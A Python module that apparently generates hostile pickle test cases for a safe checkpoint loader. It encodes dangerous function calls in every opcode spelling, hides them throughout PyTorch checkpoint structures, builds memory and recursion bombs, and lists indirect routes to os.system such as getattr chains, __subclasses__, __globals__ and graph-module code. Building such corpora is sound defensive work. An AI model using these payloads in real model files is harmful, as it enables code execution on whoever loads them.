"""Hostile pickles: calls of dangerous functions in all spellings, and endless structures.

`spelled` writes one call in each way that Python's unpickler executes; `PLACES` puts opcodes
anywhere in a checkpoint; `BOMBS` holds structures and false claims, which need no dangerous name.
"""

import struct
from collections.abc import Callable

from corpus_forms import call, dictionary, long, name, shaped, storage, tensor, text

PROTOCOL_4 = b"\x80\x04"


def short_text(value: str, opcode: bytes = b"\x8c") -> bytes:
    octets = value.encode()
    size = {b"\x8c": "<B", b"\x8d": "<Q", b"X": "<I"}[opcode]
    return opcode + struct.pack(size, len(octets)) + octets


def spelled(path: str, argument: bytes) -> dict[str, bytes]:
    """Return the opcodes that call a function with one argument, in all spellings, by name."""
    module, _, last = path.rpartition(".")
    lines = f"{module}\n{last}\n".encode()
    named = name(path)
    one, other = short_text(module), short_text(last)
    on_stack = {
        "": one + other,
        " of BINUNICODE": text(module) + text(last),
        " of BINUNICODE8": short_text(module, b"\x8d") + short_text(last, b"\x8d"),
        " of UNICODE lines": f"V{module}\nV{last}\n".encode(),
        " of STRING lines": f"S'{module}'\nS'{last}'\n".encode(),
        " of escaped lines": f"V\\u{ord(module[0]):04x}{module[1:]}\nV{last}\n".encode(),
        " from the memo": one + b"\x940" + other + b"\x940h\x00h\x01",
        " from a far memo": one + b"r\x00\x00\x01\x000" + other + b"p77\n0j\x00\x00\x01\x00g77\n",
        " in a frame": b"\x95" + struct.pack("<Q", len(one + other) + 1) + one + other,
    }
    instance = name("some.Class") + b")\x81"
    return {
        "GLOBAL": named + argument + b"\x85R",
        "GLOBAL with a marked tuple": named + b"(" + argument + b"tR",
        **{
            f"STACK_GLOBAL{kind}": PROTOCOL_4 + names + b"\x93" + argument + b"\x85R"
            for kind, names in on_stack.items()
        },
        "INST": b"(" + argument + b"i" + lines,
        "OBJ": b"(" + named + argument + b"o",
        "function from the memo": named + b"q\x050" + b"h\x05" + argument + b"\x85R",
        "function twice": named + b"2" + argument + b"\x85R0" + argument + b"\x85R",
        "result dropped": named + argument + b"\x85R0N",
        "result dropped by POP_MARK": b"(" + named + argument + b"\x85R1N",
        "argument from a list": named + b"]" + argument + b"a0" + argument + b"\x85R",
        "behind a partial": name("functools.partial") + named + argument + b"\x86R)R",
        "as __setstate__": named
        + b"q\x090"
        + instance
        + dictionary(__setstate__=b"h\x09")
        + b"b"
        + argument
        + b"b",
        "as append": instance + dictionary(append=named) + b"b" + argument + b"a",
        "as a part of a state": instance + b"N" + dictionary(__setstate__=named) + b"\x86b",
        "as a default factory": name("collections.defaultdict") + named + b"\x85R",
        "NEWOBJ": named + argument + b"\x85\x81",
        "NEWOBJ_EX": named + argument + b"\x85}\x92",
        "BUILD": named + argument + b"b",
        "copyreg": call("copyreg._reconstructor", named, name("builtins.object"), b"N"),
        "copyreg.__newobj__": call("copyreg.__newobj__", named, argument),
        "only named": named,
    }


EXECUTED_BY_PICKLE = (
    *("GLOBAL", "GLOBAL with a marked tuple", "STACK_GLOBAL", "STACK_GLOBAL of BINUNICODE"),
    *("STACK_GLOBAL of BINUNICODE8", "STACK_GLOBAL of UNICODE lines"),
    *("STACK_GLOBAL of STRING lines", "STACK_GLOBAL of escaped lines"),
    *("STACK_GLOBAL from the memo", "STACK_GLOBAL from a far memo", "STACK_GLOBAL in a frame"),
    *("INST", "OBJ", "function from the memo", "function twice", "result dropped"),
    *("result dropped by POP_MARK", "argument from a list", "behind a partial"),
)
"""The spellings that Python's unpickler executes without any other class."""


def module(kind: str = "owner.Net", **attributes: bytes) -> bytes:
    plain = {"training": b"\x88", "_parameters": b"}", "_buffers": b"}", "_modules": b"}"}
    return name(kind) + b")\x81" + dictionary(**{**plain, **attributes}) + b"b"


PLACES: dict[str, Callable[[bytes], bytes]] = {
    "the top": lambda hostile: hostile,
    "beside a state dict": lambda hostile: dictionary(model=dictionary(a=tensor()), x=hostile),
    "before a state dict": lambda hostile: dictionary(x=hostile, model=dictionary(a=tensor())),
    "a list of callbacks": lambda hostile: dictionary(a=tensor(), c=b"](" + hostile + b"e"),
    "a key": lambda hostile: dictionary(a=tensor()) + hostile + b"Ns",
    "a parameter": lambda hostile: module(_parameters=dictionary(a=tensor(), b=hostile)),
    "a module": lambda hostile: module(
        _modules=dictionary(b=hostile), _parameters=dictionary(a=tensor())
    ),
    "a hook": lambda hostile: module(_parameters=dictionary(a=tensor()), _forward_hooks=hostile),
    "an attribute of a parameter": lambda hostile: dictionary(
        a=call(
            "torch._utils._rebuild_parameter_with_state",
            tensor(),
            b"\x88",
            call("collections.OrderedDict"),
            dictionary(attribute=hostile),
        )
    ),
    "the hooks of a tensor": lambda hostile: dictionary(b=tensor(hooks=hostile), a=tensor()),
    "the shape of a tensor": lambda hostile: dictionary(b=tensor(shape=hostile), a=tensor()),
    "the size of a storage": lambda hostile: dictionary(b=tensor(storage(numel=hostile))),
    "a reference": lambda hostile: dictionary(a=tensor(), b=hostile + b"Q"),
    "the source of a class": lambda hostile: dictionary(
        a=tensor(), b=b"(" + text("module") + hostile + text("net.py") + text("class A") + b"tQ"
    ),
    "an argument of a class": lambda hostile: dictionary(a=tensor(), b=call("a.B", hostile)),
    "the state of an array": lambda hostile: dictionary(
        a=tensor(), b=array(shape=b"K\x01\x85", dtype=hostile)
    ),
    "a graph module": lambda hostile: call(
        "torch.fx.graph_module.reduce_graph_module",
        dictionary(_parameters=dictionary(a=tensor()), _modules=b"}", _code=hostile),
        text("import torch"),
    ),
}


def array(
    shape: bytes = b"K\x04\x85",
    dtype: bytes | None = None,
    octets: bytes | None = None,
    order: bytes = b"\x89",
) -> bytes:
    return (
        call("numpy.core.multiarray._reconstruct", name("numpy.ndarray"), b"K\x00\x85", b"C\x01b")
        + b"(K\x01"
        + shape
        + (element_type() if dtype is None else dtype)
        + order
        + (b"C\x10" + bytes(16) if octets is None else octets)
        + b"tb"
    )


def element_type(code: str = "f4", byte_order: str = "<") -> bytes:
    return (
        call("numpy.dtype", text(code), b"\x89", b"\x88")
        + b"(K\x03"
        + text(byte_order)
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    )


def chain(times: int) -> bytes:
    head = name("owner.Net") + b")\x81}" + text("_parameters") + b"}s"
    head += text("_modules") + b"}" + text("n" * 50)
    return head * times + module(_parameters=dictionary(a=tensor())) + b"ssb" * times


def within_itself(attribute: str) -> bytes:
    own = name("owner.Net") + b")\x81q\x11"
    members = dictionary(_parameters=dictionary(a=tensor()), _buffers=b"}", _modules=b"}")
    return own + members + text(attribute) + dictionary(me=b"h\x11") + b"sb"


def repeated(value: bytes, times: int) -> bytes:
    """Return the opcodes for a dictionary of arrays that share `value`, memoized as number 18."""
    arrays = b"".join(
        text(f"w{index}") + array(long(1 << 24) + b"\x85", element_type("u1"), b"h\x12") + b"s"
        for index in range(times)
    )
    return value + b"q\x120}" + arrays


BIG = 1 << 40
BOMBS: dict[str, bytes] = {
    "a module in its parameters": within_itself("_parameters"),
    "a module in its buffers": within_itself("_buffers"),
    "a module as its own state": name("a.B") + b")\x81q\x112b",
    "modules 10,000 deep": chain(10_000),
    "100,000 modules of one state": b"]("
    + name("a.B")
    + b")\x81q\x13"
    + dictionary(_parameters=dictionary(a=tensor()), _modules=b"}")
    + b"b"
    + b"h\x13" * 100_000
    + b"e",
    "a thousand state dicts of one long name": b"]("
    + text("n" * 10**6)
    + b"q\x140"
    + (b"}h\x14" + tensor() + b"s") * 1000
    + b"e",
    "parameters that are no dictionary": module(_parameters=b"K\x07"),
    "modules that are a list": module(_modules=b"]", _parameters=dictionary(a=tensor())),
    "parameters under other keys": module(_parameters=b"}K\x07" + tensor() + b"s"),
    "transient buffers that are a number": module(
        _buffers=dictionary(a=tensor()), _non_persistent_buffers_set=b"K\x07"
    ),
    "transient buffers without end": module(
        _buffers=dictionary(a=tensor()),
        _non_persistent_buffers_set=call("builtins.set", b"]" + long(BIG) + b"a"),
    ),
    "names from right to left": module(
        _parameters=b"}" + text("\u202egnp.thgiew") + tensor() + b"s", kind="owner.\u202eteN"
    ),
    "names with line breaks": module(_parameters=b"}" + text("a\nb\0\x1b[2J") + tensor() + b"s"),
    "names that are no text": module(_parameters=b"}" + text("\ud800") + tensor() + b"s"),
    "names of nothing": module(_parameters=b"}" + text("") + tensor() + b"s"),
    "names with dots": module(
        _parameters=b"}" + text("a.b") + tensor() + b"s",
        _modules=dictionary(a=module(_parameters=dictionary(b=tensor()))),
    ),
    "an array of a terabyte": dictionary(a=array(long(BIG) + b"\x85")),
    "an array of a negative shape": dictionary(a=array(shaped(-4, -1))),
    "an array of overflowing sizes": dictionary(a=array(shaped(1 << 32, 1 << 32))),
    "an empty array of large sizes": dictionary(a=array(shaped(0, 1 << 62), octets=b"C\x00")),
    "an array of 100,000 dimensions": dictionary(a=array(b"(" + b"K\x01" * 100_000 + b"t")),
    "an array with more bytes": dictionary(a=array(b"K\x01\x85")),
    "an array of odd sizes": dictionary(a=array(b"(\x88K\x04t")),
    "an array of objects": dictionary(a=array(dtype=element_type("O8", "|"), octets=b"](K\x01e")),
    "an array of texts": dictionary(a=array(dtype=element_type("U4"))),
    "an array of records": dictionary(a=array(dtype=element_type("V8", "|"))),
    "an array of other bytes": dictionary(a=array(dtype=element_type("f4", ">"))),
    "an array of a type of a terabyte": dictionary(a=array(dtype=element_type(f"S{BIG}", "|"))),
    "an array as its own dtype": name("a.B") + b")\x81q\x11" + array(dtype=b"h\x11"),
    "an array from a buffer": dictionary(
        a=call(
            "numpy._core.numeric._frombuffer",
            b"C\x10" + bytes(16),
            element_type(),
            long(BIG) + b"\x85",
            text("C"),
        )
    ),
    "a scalar with a long value": dictionary(
        a=tensor(), b=call("numpy.core.multiarray.scalar", element_type(), b"C\xff" + bytes(255))
    ),
    "1,000 arrays of the same 16 MiB": repeated(
        b"B" + struct.pack("<I", 1 << 24) + bytes(1 << 24), 1000
    ),
    "bytes of protocol 5 in another buffer": dictionary(a=b"\x97"),
    "a bytearray without end": b"\x96" + struct.pack("<Q", 1 << 62),
    "a frame without end": b"\x95" + struct.pack("<Q", 1 << 62) + dictionary(a=tensor()),
    "a number without end": b"\x8b\xff\xff\xff\x7f",
    "a number of a million digits": b"L" + b"9" * 10**6 + b"L\n",
    "a text in octal escapes": b"S'" + b"\\377" * 10**6 + b"'\n",
    "lists doubled 64 times": b"](" + b"K\x01eq\x150" + b"](h\x15h\x15eq\x150" * 64 + b"h\x15",
    "lists doubled 64 times and called": b"]q\x150" + b"](h\x15h\x15eq\x150" * 64 + b"h\x15)R",
    "a conjugate bit of doubled tuples": dictionary(
        a=tensor(rest=dictionary(conj=b")q\x15" + b"0h\x15h\x15\x86q\x15" * 64))
    ),
    "a storage that is called": storage() + b")R",
    "a storage of a number without end": dictionary(
        a=tensor(storage(numel=b"\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6))
    ),
    "a shape of a number without end": dictionary(
        a=tensor(shape=b"\x8b" + struct.pack("<i", 10**6) + b"\x7f" * 10**6 + b"\x85")
    ),
    "dictionaries doubled 64 times": b"}q\x150"
    + (b"}" + text("a") + b"h\x15s" + text("b") + b"h\x15sq\x150") * 64
    + b"h\x15",
    "objects doubled 64 times": b"Nq\x150"
    + (name("a.B") + b")\x81h\x15h\x15\x86bq\x150") * 64
    + b"h\x15",
    "an object as a key": b"}" + name("a.B") + b")\x81Ns",
    "an object in a set": call("builtins.set", b"]" + name("a.B") + b")\x81a"),
    "an object as its own key": name("a.B") + b")\x81q\x112h\x11s",
    "an object as its own item": name("a.B") + b")\x81q\x112a",
    "a list in itself": b"]q\x11h\x11a",
    "a tuple in itself": b"]q\x16h\x16\x85q\x17ah\x17",
    "objects 20,000 deep": (name("a.B") + b")\x81") * 20_000 + b"N" + b"b" * 20_000,
    "calls 20,000 deep": name("a.B") * 20_000 + b")" + b"R\x85" * 19_999 + b"R",
    "marks without end": b"(" * 10**5,
    "texts that end nowhere": b"V" + b"a" * 10**6,
    "no result": b"0",
    "an unknown opcode": b"\xff",
    "dtypes as strides": dictionary(a=tensor(strides=name("torch.float32"))),
    "a storage of itself": storage(numel=b"]q\x18h\x18a"),
    "an optimizer of itself": dictionary(a=tensor()) + b"q\x19" + text("state") + b"h\x19s",
    "graph modules in each other": call(
        "torch.fx.graph_module.reduce_graph_module",
        b"}q\x1a" + text("_parameters") + b"}s" + text("_modules") + dictionary(x=b"h\x1a") + b"s",
        text("import os; os.mkdir('ran')"),
    ),
    "a compiled module of itself": name("torch._dynamo.eval_frame.OptimizedModule")
    + b"]q\x1b\x85R",
}
"""Structures without a dangerous name: refused in one line or opened, in little memory and time."""


def attribute(owner: bytes, last: str) -> bytes:
    return name("builtins.getattr") + owner + text(last) + b"\x86R"


OS = name("torch.os")
GETATTR = name("builtins.getattr")
TRICKS: dict[str, bytes] = {
    "a module that another imports": attribute(OS, "system"),
    "a module as an attribute": attribute(attribute(name("torch.nn.modules"), "os"), "system"),
    "a module in a name": PROTOCOL_4 + text("torch.nn") + text("os.system") + b"\x93",
    "a module under an alias": PROTOCOL_4 + text("collections") + text("_sys.modules") + b"\x93",
    "the subclasses of all classes": attribute(name("builtins.object"), "__subclasses__") + b")R",
    "the variables of a module": attribute(name("torch._utils._rebuild_tensor_v2"), "__globals__"),
    "the variables in a name": PROTOCOL_4
    + text("torch")
    + text("nn.Module.__init__.__globals__")
    + b"\x93",
    "the class of a value": attribute(attribute(b")", "__class__"), "__base__"),
    "an attribute with a default": GETATTR + OS + text("no") + name("posix.mkdir") + b"\x87R",
    "an attribute with a computed name": GETATTR
    + name("a.b")
    + name("builtins.str")
    + text("system")
    + b"\x85R\x86R",
    "getattr in a partial": name("functools.partial") + GETATTR + OS + text("system") + b"\x87R",
    "getattr in a map": name("builtins.map") + GETATTR + b"]\x86R",
    "getattr from the memo": GETATTR + b"q\x300h\x30" + name("numpy.os") + text("mkdir") + b"\x86R",
    "getattr by INST": b"(" + OS + text("system") + b"ibuiltins\ngetattr\n",
    "getattr by OBJ": b"(" + GETATTR + OS + text("system") + b"o",
    "getattr of Python 2": name("__builtin__.getattr") + OS + text("system") + b"\x86R",
    "a function of bytes": name("types.FunctionType") + name("types.CodeType") + b")R}\x86R",
    "a pickle in a pickle": call("torch.storage._load_from_bytes", b"C\x01a"),
    "the source of a graph module": call(
        "torch.fx.graph_module.reduce_graph_module",
        dictionary(_parameters=b"}", _modules=b"}", _code=text("import os\nos.mkdir('ran')\n")),
        text("import torch"),
    ),
    "the imports of a graph module": call(
        "torch.fx.graph_module.reduce_graph_module",
        dictionary(_parameters=b"}", _modules=b"}", _code=text("def forward(self): pass\n")),
        text("import os; os.mkdir('ran')"),
    ),
}
"""Ways to dangerous code that do not name it in one piece."""
